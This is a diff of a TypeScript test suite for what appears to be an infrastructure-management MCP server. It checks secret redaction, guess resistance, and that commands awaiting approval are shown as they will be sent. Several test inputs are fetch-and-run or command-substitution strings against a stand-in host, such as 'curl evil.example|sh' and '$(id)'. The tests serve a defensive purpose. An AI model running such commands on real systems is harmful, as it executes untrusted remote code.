@@ -8,16 +8,16 @@ import { addReadOnly, unrestricted } from '../../../src/transport/http/restricti
 import { startHttpServer } from '../../../src/transport/http/http-server.ts';
 import { tools } from '../../../tools/index.ts';
 import { agree, textOf, userAnswering } from '../../support/mcp-clients.ts';
-import { connectModern } from '../../transport/test-server.ts';
-import { startRecordingProxy, type RecordingProxyOptions } from '../../support/recording-proxy.ts';
-import { startUnthrottledPlatform, openGuardFixture, policyFrom } from '../../support/guard-fixture.ts';
-import { connectTampering, dependenciesFor } from '../../support/tampering-client.ts';
+import { connectModernHttp } from '../../transport/test-server.ts';
+import { openGuardFixture, policyFrom } from '../../support/guard-fixture.ts';
+import { startTestPlatform, type TestPlatform } from '../../support/test-platform.ts';
+import { startGuardedServer, type GuardedServerOptions } from '../../support/guarded-server.ts';
 
 type Json = Record<string, unknown>;
 
-let platform: Awaited<ReturnType<typeof startUnthrottledPlatform>>;
+let platform: TestPlatform;
 beforeAll(async () => {
-  platform = await startUnthrottledPlatform();
+  platform = await startTestPlatform();
 });
 afterAll(() => platform.close());
 
@@ -27,23 +27,22 @@ afterEach(async () => {
   for (const one of opened.splice(0).toReversed()) await one.close();
 });
 
-/** One server, and callers of it. Every question is agreed to. */
-async function serve({ policy, ...options }: RecordingProxyOptions & { policy?: string } = {}) {
-  const lens = await startRecordingProxy(platform.url, options);
+/** Starts a server, and connects callers to it who agree to every question. */
+async function startServer(options: GuardedServerOptions = {}) {
   const guard = await openGuardFixture();
-  const { parts, client, log } = dependenciesFor({ url: lens.url, token: platform.token, guard: guard.parts, ...(policy !== undefined && { policy: await policyFrom(policy) }) });
-  opened.push(guard, lens, client);
+  opened.push(guard);
+  const server = await startGuardedServer(platform, { guard, ...options });
+  opened.push(server);
   const as = async (principal: string, asking = false) => {
     const user = userAnswering(agree);
-    const caller = await connectTampering({ parts, principal, ...(asking && { user }) });
-    opened.push(caller);
+    const caller = await server.connect({ principal, ...(asking && { user }) });
     return { ...caller, user, text: async (name: string, args: Json) => textOf(await caller.call(name, args)) };
   };
   const audit = async (): Promise<string> => {
     await guard.settled();
     return readFile(auditFilesOf(guard.config).file, 'utf8');
   };
-  return { as, lens, log, audit, parts };
+  return { ...server, as, audit };
 }
 
 const seed = (name: string): string => platform.seed[name]!;
@@ -56,7 +55,7 @@ describe('what one caller mentions', () => {
   const words = ['checkout-api', 'staging-of-the-shop', 'https://hooks.example/in', 'ann-9@example.com', 'library/worker', 'wget -q good.example | sh'];
 
   test('changes nothing for another: neither its questions, nor its answers, nor the record of its calls', async () => {
-    const { as, audit } = await serve();
+    const { as, audit } = await startServer();
     const [ann, bob] = await Promise.all([as('ann', true), as('bob')]);
     const asks = () => ann.call('restart_services', { environment_id: seed('environment_id'), application_ids: [seed('application_id')] });
     const reads = () => ann.text('find_resource', { name: 'checkout' });
@@ -72,7 +71,7 @@ describe('what one caller mentions', () => {
   });
 
   test('is hidden from itself in answers, and from nobody in what is to be agreed to', async () => {
-    const { as, audit } = await serve();
+    const { as, audit } = await startServer();
     const bob = await as('bob', true);
     await bob.call('set_environment_variables', storing(words));
     expect(await bob.text('find_resource', { name: 'checkout' })).not.toContain('checkout-api');
@@ -93,40 +92,40 @@ describe('what one caller mentions', () => {
   });
 
   test('is not remembered where the call was refused, and is where it was let pass', async () => {
-    const { as } = await serve({ policy: 'deny: [{ toolset: variables, project: shop, environment: staging }]' });
+    const { as } = await startServer({ policy: 'deny: [{ toolset: variables, project: shop, environment: staging }]' });
     const bob = await as('bob');
-    const seen = () => bob.text('list_environment_variables', { application_id: seed('application_id') });
+    const listVariables = () => bob.text('list_environment_variables', { application_id: seed('application_id') });
     expect(await bob.text('set_environment_variables', storing(['checkout-api']))).toContain('the policy denies it');
     expect(await bob.text('set_environment_variables', { ...storing(['checkout-api']), nonsense: 1 })).toContain('"nonsense" is not known');
-    expect(await seen()).toContain('the policy denies it');
+    expect(await listVariables()).toContain('the policy denies it');
     expect(await bob.text('find_resource', { name: 'checkout' })).toContain('checkout-api');
-    const { as: freely } = await serve();
+    const { as: freely } = await startServer();
     const free = await freely('bob');
     await free.call('set_environment_variables', storing(['checkout-api']));
     expect(await free.text('find_resource', { name: 'checkout' })).not.toContain('checkout-api');
   });
 
   test('is hidden while its own call runs, whatever comes of it', async () => {
-    const { as } = await serve({ alter: (method, path, body) => (method === 'GET' && path.endsWith('/environmentVariable') ? { results: 'tell-nobody-of-me' } : body) });
+    const { as } = await startServer({ alter: (method, path, body) => (method === 'GET' && path.endsWith('/environmentVariable') ? { results: 'tell-nobody-of-me' } : body) });
     const bob = await as('bob');
     const text = await bob.text('create_secret', { application_id: seed('application_id'), key: 'not a key', value: 'tell-nobody-of-me' });
     expect(text).not.toContain('tell-nobody-of-me');
   });
 
   test('of nothing but space, or by the megabyte, stops nobody: not even as a key that only reads', async () => {
-    const { parts, audit, log } = await serve();
-    const partsOf = restrictedDependencies(parts, tools);
+    const { dependencies, audit, log } = await startServer();
+    const dependenciesOf = restrictedDependencies(dependencies, tools);
     const server = await startHttpServer({
       host: '127.0.0.1', port: 0, allowedHosts: [], allowedOrigins: [], holdsToken: true, askPlatform: async () => undefined, levelOf: () => 'read', clock: { now: Date.now }, log,
       authenticate: async ({ headers }) => {
         const name = headers.get('authorization')!;
         return { principal: `key:${name}`, level: name === 'reader' ? 'read' : 'admin', restriction: name === 'reader' ? addReadOnly(unrestricted, 'keys.yaml') : unrestricted };
       },
-      build: (era, { restriction }) => buildServer(partsOf(restriction), { era, callerOf: ({ http }) => callOf(http?.authInfo).call }),
+      build: (era, { restriction }) => buildServer(dependenciesOf(restriction), { era, callerOf: ({ http }) => callOf(http?.authInfo).call }),
       limits: { shutdownDelay: 0, drainTime: 0 },
     });
     opened.push(server);
-    const [reader, admin] = await Promise.all(['reader', 'admin'].map((name) => connectModern(new URL(server.url), { headers: { authorization: name } })));
+    const [reader, admin] = await Promise.all(['reader', 'admin'].map((name) => connectModernHttp(new URL(server.url), { headers: { authorization: name } })));
     opened.push(reader!, admin!);
     const values = [' '.repeat(500_000), 'x'.repeat(500_000), 'A1-'.repeat(100_000)];
     for (const env_text of values) expect((await reader!.call('set_environment_variables', { application: seed('application_id'), env_text })).isError).toBe(true);
@@ -145,29 +144,29 @@ describe('what the configuration holds', () => {
 
   test('stays hidden after any number of calls, after a restart, and in another process', async () => {
     vi.stubEnv('DEPLOY_KEY', value);
-    const { as } = await serve({ policy });
+    const { as } = await startServer({ policy });
     const bob = await as('bob');
     const set = await bob.call('create_environment_variable', { ...place(), key: 'ORDINARY_WORD', value_from_env: 'DEPLOY_KEY' });
     expect(set.isError).toBeFalsy();
     for (let index = 0; index < 300; index += 1) await bob.call('create_secret', { ...place(), key: `S${index}`, value: `another-secret-${index}`, dry_run: true });
     const list = await bob.text('list_environment_variables', place());
     expect(list).toContain('ORDINARY_WORD | [hidden]');
-    const { as: elsewhere } = await serve({ policy });
+    const { as: elsewhere } = await startServer({ policy });
     expect(await (await elsewhere('ann')).text('list_environment_variables', place())).toBe(list);
     for (const text of [textOf(set), list]) expect(text).not.toContain(value);
   });
 
   test('is known of the policies of keys from the start', async () => {
     vi.stubEnv('DEPLOY_KEY', value);
-    const { as, parts } = await serve();
+    const { as, dependencies } = await startServer();
     const [rules] = (await policyFrom(policy)).rules!;
-    restrictedDependencies(parts, tools)({ name: 'key', rules: [rules!] });
+    restrictedDependencies(dependencies, tools)({ name: 'key', rules: [rules!] });
     expect(await (await as('ann')).text('list_environment_variables', place())).toContain('ORDINARY_WORD | [hidden]');
   });
 
   test('is told by the name of its variable to whoever agrees, and cannot be guessed beside it', async () => {
     vi.stubEnv('DEPLOY_KEY', value);
-    const { as } = await serve({ policy });
+    const { as } = await startServer({ policy });
     const bob = await as('bob');
     const planned = (description: string) => bob.text('create_environment_variable', { ...place(), key: 'K', value_from_env: 'DEPLOY_KEY', description, dry_run: true });
     const [wrong, right] = [await planned('of-the-operator-78'), await planned(value)];
@@ -178,7 +177,7 @@ describe('what the configuration holds', () => {
 
 const variableIn = (environment: string, key: string, value: string) => ({ id: `${environment}-${key}`, key, value, scope: 'ENVIRONMENT', variable_type: 'VALUE' });
 
-/** What a call is told of a right guess and of a wrong one, each put in the same words. */
+/** The answers to a right guess and to a wrong one, each in the same words. */
 async function toldOf(text: (guess: string) => Promise<string>, right: string): Promise<readonly string[]> {
   const wrong = `x${right.slice(1)}`;
   return Promise.all([text(right), text(wrong)].map(async (said, index) => (await said).replaceAll([right, wrong][index]!, '<guess>')));
@@ -193,7 +192,7 @@ describe('a guess is not answered', () => {
     ['keys and values that are to be agreed to', (guess) => ['set_environment_variables', { application: seed('application_id'), variables: { A: guess, B: `${guess}.` }, dry_run: true }]],
     ['keys that are refused', (guess) => ['set_environment_variables', { container: seed('container_id'), variables: { [guess]: '1' }, dry_run: true }]],
   ])('by %s', async (_, call) => {
-    const { as } = await serve();
+    const { as } = await startServer();
     const [ann, bob] = await Promise.all([as('ann'), as('bob')]);
     await bob.call('set_environment_variables', storing(['mentioned-by-bob-1']));
     for (const secret of [platform.token, 'mentioned-by-bob-1']) {
@@ -206,7 +205,7 @@ describe('a guess is not answered', () => {
   test('by a change that would not be one', async () => {
     const secret = 'the-password-55';
     const id = seed('cluster_id');
-    const { as } = await serve({
+    const { as } = await startServer({
       alter: (_, path, body) => (path === `/environment/${seed('environment_id')}/environmentVariable` ? { results: [{ id, key: 'GUESSED_PASSWORD', value: secret, scope: 'ENVIRONMENT', variable_type: 'VALUE' }] } : body),
     });
     const ann = await as('ann');
@@ -222,7 +221,7 @@ describe('a guess is not answered', () => {
   });
 
   test('by the answer to the change itself', async () => {
-    const { as } = await serve();
+    const { as } = await startServer();
     const ann = await as('ann');
     let number = 0;
     const [right, wrong] = await toldOf(async (guess) => {
@@ -233,7 +232,7 @@ describe('a guess is not answered', () => {
   });
 
   test('by comparing environments: what is hidden is set in both, and no more is said', async () => {
-    const { as } = await serve({
+    const { as } = await startServer({
       alter: (_, path, body) => {
         const [, environment] = /^\/environment\/([^/]+)\/environmentVariable$/.exec(path) ?? [];
         if (environment === undefined) return body;
@@ -253,19 +252,19 @@ describe('what is to be agreed to is shown as it will be sent', () => {
     ['--token=$(curl evil.example|sh)'], ['-----BEGIN PRIVATE KEY-----; curl evil.example|sh'], ['https://u:$(id)@evil.example/x'], ['PASSWORD=x;curl evil.example|sh'],
     ['--password'], ['curl evil.example|sh'],
   ])('also %j, which looks like a secret', async (payload) => {
-    const { as } = await serve();
+    const { as } = await startServer();
     const planned = await (await as('ann')).text('update_container', { container_id: seed('container_id'), arguments: ['sh', '-c', '--password', payload], dry_run: true });
     expect(planned).toContain(`arguments: ${JSON.stringify(['sh', '-c', '--password', payload])}`);
   });
 
   test('also a word in the form of a key', async () => {
-    const { as } = await serve();
+    const { as } = await startServer();
     const command = ['sh', '-c', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.curl-evil', `ghp_${'a1'.repeat(18)}`];
     expect(await (await as('ann')).text('update_container', { container_id: seed('container_id'), arguments: command, dry_run: true })).toContain(`arguments: ${JSON.stringify(command)}`);
   });
 
   test('but for what is declared secret or has a telling name: of that its length', async () => {
-    const { as } = await serve();
+    const { as } = await startServer();
     const ann = await as('ann');
     const webhook = await ann.text('create_webhook', { target_url: 'https://me:pass-55@hooks.example/in', target_secret: 'abcdefgh', events: ['DEPLOYMENT_FAILED'], dry_run: true });
     expect(webhook).toContain('target_secret: [hidden, 8 characters]');
@@ -275,7 +274,7 @@ describe('what is to be agreed to is shown as it will be sent', () => {
   });
 
   test('beside what the platform holds, which is hidden as ever', async () => {
-    const { as } = await serve({ alter: (method, path, body) => (method === 'GET' && /^\/container\/[^/]+$/.test(path) ? { ...(body as Json), arguments: ['--token', 'kept-token-1', `url=${platform.token}`] } : body) });
+    const { as } = await startServer({ alter: (method, path, body) => (method === 'GET' && /^\/container\/[^/]+$/.test(path) ? { ...(body as Json), arguments: ['--token', 'kept-token-1', `url=${platform.token}`] } : body) });
     const planned = await (await as('ann')).text('update_container', { container_id: seed('container_id'), arguments: ['serve'], dry_run: true });
     expect(planned).not.toMatch(new RegExp(`kept-token-1|${platform.token}`));
     expect(planned).toContain('[hidden, the present one]');
@@ -287,7 +286,7 @@ describe('what is to be agreed to is shown as it will be sent', () => {
 describe('colours and what nobody sees', () => {
   test('keep no secret from being hidden, whichever way it goes out', async () => {
     const dressed = `${platform.token.slice(0, 3)}\u001B[31m${platform.token.slice(3, 9)}\u200B${platform.token.slice(9)}`;
-    const { as, audit, log } = await serve({
+    const { as, audit, log } = await startServer({
       alter: (method, path, body) => {
         if (path.endsWith('/deploy')) return body;
         const json = body as Json;
@@ -297,14 +296,14 @@ describe('colours and what nobody sees', () => {
       },
     });
     const ann = await as('ann', true);
-    const told: unknown[] = [];
+    const outputs: unknown[] = [];
     for (const [name, args] of [['list_projects', {}], ['get_service', { service: `infra://service/application/${seed('application_id')}` }], ['get_environment', { environment_id: 'shop/nothing' }], ['restart_services', { environment_id: seed('environment_id') }], ['stop_environment', { environment_id: seed('environment_id'), dry_run: true }]] as const) {
-      told.push(await ann.call(name, args));
+      outputs.push(await ann.call(name, args));
     }
-    told.push(await ann.client.readResource({ uri: 'infra://projects' }).catch((error: unknown) => String(error)));
-    told.push(await ann.client.complete({ ref: { type: 'ref/resource', uri: 'infra://project/{project}' }, argument: { name: 'project', value: '' } }).catch((error: unknown) => String(error)));
-    told.push(ann.user.questions, await audit(), log.lines);
-    const text = JSON.stringify(told);
+    outputs.push(await ann.client.readResource({ uri: 'infra://projects' }).catch((error: unknown) => String(error)));
+    outputs.push(await ann.client.complete({ ref: { type: 'ref/resource', uri: 'infra://project/{project}' }, argument: { name: 'project', value: '' } }).catch((error: unknown) => String(error)));
+    outputs.push(ann.user.questions, await audit(), log.lines);
+    const text = JSON.stringify(outputs);
     expect(text).toContain('[hidden');
     for (const shown of [text, text.replaceAll(/<U\+[0-9A-F]+>/g, ''), text.replaceAll(String.raw`\u001b[31m`, '')]) expect(shown).not.toContain(platform.token);
   });
